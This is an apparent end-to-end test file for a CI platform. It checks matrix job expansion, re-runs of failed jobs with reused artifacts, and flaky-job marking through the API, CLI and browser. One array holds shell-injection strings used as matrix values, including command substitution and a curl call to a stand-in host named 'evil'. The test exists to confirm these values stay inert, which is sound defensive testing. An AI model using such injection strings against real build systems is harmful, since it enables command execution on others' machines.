import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { allowEgressHost } from "@kiln/engine";
import { s3Env, startS3, type S3Handle } from "@kiln/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { screenshot, signIn, TestBrowser, type Page } from "./support/browser.ts";
import { Platform } from "./support/platform.ts";

// Issue 20 end to end (docs/adr/0030): real web server, workers, two host agents (process driver),
// s3rver for artifacts, real Chromium. A 2x2 matrix runs four jobs with their values in env and a
// downstream job after all of them; hostile matrix values stay data; a re-run of a run whose second
// job failed pins the first (its artifact reused) and runs the second and its descendant again;
// that success after the failure on one commit marks the job flaky, on the API, the CLI and the
// dashboard, where the re-run button and the first-error excerpt are driven through Chromium.
//
// What makes `test` fail once and then pass on the same commit and definition is a verdict server
// on this host that the step asks through the mediated egress proxy: 500 on the first request per
// key, 200 after. Nothing in the workflow or the platform differs between the two runs.
const run = promisify(execFile);
const ROOT = path.resolve(import.meta.dirname, "..");
let s3: S3Handle;
let s3Dir = "";
let p: Platform;
let tenant: Awaited<ReturnType<Platform["seedTenant"]>>;
let browser: TestBrowser;
let dev: Page;
let verdictPort = 0;
const verdicts = new Map<string, number>();
const server = http.createServer((req, res) => {
  const key = req.url ?? "";
  const n = (verdicts.get(key) ?? 0) + 1;
  verdicts.set(key, n);
  res.statusCode = n === 1 ? 500 : 200;
  res.end(n === 1 ? "first call fails" : "passes now");
});

beforeAll(async () => {
  if (!existsSync("/usr/bin/curl")) throw new Error("/usr/bin/curl is missing: this suite's steps use Debian's curl");
  verdictPort = await new Promise<number>((resolve) =>
    server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)),
  );
  s3Dir = await mkdtemp(path.join(os.tmpdir(), "kiln-e2e-s3-"));
  s3 = await startS3({ dataDir: s3Dir, bucket: "kiln" });
  p = new Platform({
    ...s3Env(s3),
    KILN_LEASE_TTL_MS: "15000",
    KILN_HEARTBEAT_MS: "1000",
    KILN_DEV_LOGIN: "1",
    AUTH_SECRET: "e2e-only-session-secret-0123456789abcdef",
  });
  await p.start();
  tenant = await p.seedTenant("matrix", { ".kiln/workflow.yaml": MATRIX }, { member: "dev" });
  await allowEgressHost(p.db, { orgSlug: "matrix", pattern: `localhost:${verdictPort}`, actor: "e2e" });
  // The verdict server is on this host's loopback, which egress refuses unless the agent is told.
  for (const name of ["agent-1", "agent-2"]) {
    await p.startAgent(name, tenant.agentToken, { KILN_EGRESS_ALLOW_INTERNAL: "true" });
  }
  browser = await TestBrowser.launch();
  dev = await browser.page();
  await signIn(dev, p.base, "dev", "/orgs/matrix/runs");
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await p?.stop();
  await s3?.stop();
  await rm(s3Dir, { recursive: true, force: true });
  server.close();
});

const HOSTILE = ["$(touch pwned-a)", '"; touch pwned-b; echo "', "`touch pwned-c`", "$(curl evil)"];
const MATRIX = `version: 1
jobs:
  - name: test
    needs: []
    strategy:
      matrix:
        jdk: [17, 21]
        os: [linux, mac]
    steps:
      - echo "matrix jdk=$KILN_MATRIX_JDK os=$KILN_MATRIX_OS"
      - sleep 1
  - name: hostile
    needs: []
    strategy:
      matrix:
        v: [${HOSTILE.map((v) => `'${v}'`).join(", ")}]
    steps:
      - printf 'value=[%s]\\n' "$KILN_MATRIX_V"
      - for f in pwned-a pwned-b pwned-c; do if [ -e "$f" ]; then echo "executed $f"; exit 9; fi; done
  - name: report
    needs: [test, hostile]
    steps: [echo all expansions done]
`;

const PIPELINE = (key: string) => `version: 1
jobs:
  - name: compile
    steps: ["mkdir -p target && head -c 4096 /dev/urandom > target/app.jar"]
    artifacts: {publish: [{name: app, path: target/app.jar}]}
  - name: test
    artifacts: {restore: [{from_job: compile, name: app, path: inputs/app.jar}]}
    steps:
      - |
        unset NO_PROXY no_proxy
        sha256sum inputs/app.jar
        curl -sS -f --max-time 20 http://localhost:${verdictPort}/verdict/${key}
  - name: package
    artifacts: {restore: [{from_job: compile, name: app, path: inputs/app.jar}]}
    steps: ["sha256sum inputs/app.jar"]
`;

async function trigger(files: Record<string, string> | null, key: string): Promise<string> {
  const sha = files ? await tenant.git.commit(files) : tenant.git.headSha;
  const r = await p.api(
    "POST",
    `/v1/repos/${tenant.repoId}/workflow-runs`,
    tenant.token,
    { workflow_path: ".kiln/workflow.yaml", commit_sha: sha },
    { "idempotency-key": key },
  );
  expect(r.status).toBe(202);
  return r.json.run_id as string;
}

const finished = (runId: string) => p.waitForRun(runId, tenant.token, (x) => x.status === "completed", 180_000);

async function stdout(jobId: string): Promise<string> {
  const r = await fetch(`${p.base}/v1/jobs/${jobId}/logs/raw?stream=stdout`, {
    headers: { authorization: `Bearer ${tenant.token}` },
  });
  expect(r.status).toBe(200);
  return r.text();
}

const history = (r: any) => JSON.stringify(r.jobs.map((j: any) => [j.name, j.outcome, j.cause]));

describe("matrix", () => {
  it("runs a 2x2 matrix as four jobs with their values in env, hostile values as data, and the downstream job after all", async () => {
    const r = await finished(await trigger(null, "matrix-1"));
    expect(r.outcome, history(r)).toBe("success");
    const tests = r.jobs.filter((j: any) => j.name.startsWith("test ("));
    expect(tests.map((j: any) => j.name)).toEqual([
      "test (jdk: 17, os: linux)",
      "test (jdk: 17, os: mac)",
      "test (jdk: 21, os: linux)",
      "test (jdk: 21, os: mac)",
    ]);
    for (const j of tests) expect(await stdout(j.id)).toContain(`matrix jdk=${j.matrix.jdk} os=${j.matrix.os}\n`);
    const hostile = r.jobs.filter((j: any) => j.name.startsWith("hostile ("));
    expect(hostile.map((j: any) => j.matrix.v)).toEqual(HOSTILE);
    for (const j of hostile) expect(await stdout(j.id)).toContain(`value=[${j.matrix.v}]\n`);
    const report = r.jobs.find((j: any) => j.name === "report");
    expect(report.needs).toEqual([...tests, ...hostile].map((j: any) => j.name));
    const lastUpstream = Math.max(...[...tests, ...hostile].map((j: any) => Date.parse(j.attempts[0].finished_at)));
    expect(Date.parse(report.attempts[0].started_at)).toBeGreaterThanOrEqual(lastUpstream);
  }, 240_000);

  it("refuses an expression in a step's shell text at freeze, naming it", async () => {
    const bad = MATRIX.replace('echo "matrix jdk=$KILN_MATRIX_JDK', 'echo "matrix jdk=${{ matrix.jdk }}');
    const r = await finished(await trigger({ ".kiln/workflow.yaml": bad }, "matrix-bad"));
    expect(r).toMatchObject({ outcome: "user_failure", cause: "workflow.expression_not_allowed", jobs: [] });
    expect(r.cause_message).toContain("KILN_MATRIX_");
  }, 120_000);
});

describe("re-run failed jobs and flakes", () => {
  it("pins the first job and its artifact, reruns the failed second job and its descendant, and marks it flaky", async () => {
    const parentId = await trigger({ ".kiln/workflow.yaml": PIPELINE("api") }, "pipeline-1");
    const parent = await finished(parentId);
    expect(parent.jobs.map((j: any) => [j.name, j.outcome])).toEqual([
      ["compile", "success"],
      ["test", "user_failure"],
      ["package", "cancelled"],
    ]);
    const other = await p.seedTenant("matrix-other", { ".kiln/workflow.yaml": MATRIX });
    expect((await p.api("POST", `/v1/workflow-runs/${parentId}/rerun-failed`, other.token)).status).toBe(404);

    const started = await p.api("POST", `/v1/workflow-runs/${parentId}/rerun-failed`, tenant.token);
    expect(started.status).toBe(202);
    const compile = parent.jobs[0];
    expect(started.json).toMatchObject({
      parent_run_id: parentId,
      pinned: [{ name: "compile", reused_from: { run_id: parentId, job_id: compile.id } }],
      rerun: ["test", "package"],
    });
    const rerun = await finished(started.json.run_id);
    expect(rerun.outcome, history(rerun)).toBe("success");
    expect(rerun).toMatchObject({ parent_run_id: parentId, trigger: "rerun_failed", trust_class: parent.trust_class });
    expect(rerun.workflow_hash).toBe(parent.workflow_hash);
    const [pinned, test, pkg] = rerun.jobs;
    expect(pinned).toMatchObject({ name: "compile", outcome: "success", attempts: [] });
    expect(pinned.reused_from).toEqual({ run_id: parentId, job_id: compile.id });
    expect(test.attempts).toHaveLength(1);
    expect(pkg.attempts).toHaveLength(1);
    // Both consumers restored the parent's bytes: the digest the pinned job lists is what they hashed.
    const listed = await p.api("GET", `/v1/jobs/${pinned.id}/artifacts`, tenant.token);
    const parentListed = await p.api("GET", `/v1/jobs/${compile.id}/artifacts`, tenant.token);
    expect(listed.json.artifacts).toEqual(parentListed.json.artifacts);
    const digest = listed.json.artifacts[0].sha256 as string;
    expect(await stdout(test.id)).toContain(`${digest}  inputs/app.jar`);
    expect(await stdout(pkg.id)).toContain(`${digest}  inputs/app.jar\n`);

    // The same commit and definition passed and failed: flaky, on the run and in the repo's list.
    expect(rerun.jobs.map((j: any) => [j.name, j.flaky])).toEqual([
      ["compile", false],
      ["test", true],
      ["package", false],
    ]);
    const flaky = await p.api("GET", `/v1/repos/${tenant.repoId}/flaky-jobs`, tenant.token);
    expect(flaky.status).toBe(200);
    expect(flaky.json.flaky_jobs).toMatchObject([{ name: "test", commits: 1, attempts: 2, last_run_id: rerun.id }]);
    const cli = await run(
      process.execPath,
      ["--import", "tsx", "scripts/kiln.ts", "flaky", "list", tenant.repoName, "--json"],
      { cwd: ROOT, env: { ...process.env, DATABASE_URL: p.dbUrl } },
    );
    expect(JSON.parse(cli.stdout)).toEqual(flaky.json.flaky_jobs);
    // Nothing left to re-run in the successful re-run.
    const nothing = await p.api("POST", `/v1/workflow-runs/${rerun.id}/rerun-failed`, tenant.token);
    expect(nothing).toMatchObject({ status: 409, json: { error: { code: "RUN.NOTHING_TO_RERUN" } } });
  }, 300_000);

  it("the run page re-runs the failed jobs from its button, shows the reuse, the flaky flag and the first error", async () => {
    const parentId = await trigger({ ".kiln/workflow.yaml": PIPELINE("browser") }, "pipeline-2");
    const parent = await finished(parentId);
    expect(parent.outcome).toBe("user_failure");
    await dev.goto(`${p.base}/orgs/matrix/runs/${parentId}`);
    // The first-failure card shows the log around the curl error, each line linked into the log view.
    const excerpt = dev.getByTestId("first-error-excerpt");
    await excerpt.waitFor();
    expect(await excerpt.textContent()).toContain("The requested URL returned error: 500");
    const firstError = excerpt.getByRole("link", { name: /^line \d+$/ });
    const href = (await firstError.getAttribute("href")) ?? "";
    expect(href).toMatch(new RegExp(`/orgs/matrix/runs/${parentId}/jobs/${parent.jobs[1].id}#L\\d+$`));
    await screenshot(dev, "run-first-error");

    await dev.getByRole("button", { name: "Re-run failed jobs" }).click();
    await dev.waitForURL((u) => u.pathname.startsWith("/orgs/matrix/runs/") && !u.pathname.endsWith(parentId));
    const childId = new URL(dev.url()).pathname.split("/").pop() ?? "";
    await dev.getByText(`Re-run of the failed jobs of ${parentId.slice(0, 8)}`).waitFor();
    await dev.locator("h1 [data-outcome-class='ok']").waitFor({ timeout: 120_000 });
    const compileRow = dev.locator("details[data-job='compile']");
    expect(await compileRow.getByTestId("reused-from").textContent()).toBe(`reused from run ${parentId.slice(0, 8)}`);
    expect(await compileRow.getByTestId("pinned-note").textContent()).toContain("no attempt ran here");
    await dev.locator("details[data-job='test'] [data-testid='flaky-badge']").waitFor({ timeout: 30_000 });
    expect(await dev.locator("details[data-job='package'] [data-testid='flaky-badge']").count()).toBe(0);
    await screenshot(dev, "run-rerun-failed");
    const rows = await p.db.$queryRaw<{ parent_run_id: string; trigger: string; actor: string }[]>`
      SELECT parent_run_id, trigger, actor FROM workflow_run WHERE id = ${childId}::uuid`;
    expect(rows[0]).toEqual({ parent_run_id: parentId, trigger: "rerun_failed", actor: "dev" });

    // The badge leads to the repo's flaky jobs, reachable by keyboard from the run page.
    await dev.locator("details[data-job='test'] [data-testid='flaky-badge']").focus();
    await dev.keyboard.press("Enter");
    await dev.waitForURL((u) => u.pathname === "/orgs/matrix/flaky");
    const table = dev.getByTestId("flaky-jobs");
    await table.waitFor();
    // Two definitions (the two pipeline commits) each passed and failed: two commits for `test`.
    expect(await table.locator("tr[data-job='test'] td").nth(1).textContent()).toBe("2");
    await screenshot(dev, "flaky-jobs");
  }, 300_000);
});
